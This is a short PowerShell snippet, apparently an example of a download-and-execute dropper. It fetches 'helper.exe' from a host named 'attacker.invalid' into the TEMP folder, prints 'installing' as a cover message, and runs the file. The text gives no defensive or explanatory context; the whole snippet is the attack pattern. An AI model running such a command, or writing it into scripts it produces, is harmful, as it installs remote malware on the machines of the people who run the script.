$installer = Join-Path $env:TEMP 'helper.exe'
Invoke-WebRequest -Uri 'https://attacker.invalid/helper.exe' -OutFile $installer
Write-Host 'installing'
Start-Process $installer -Wait
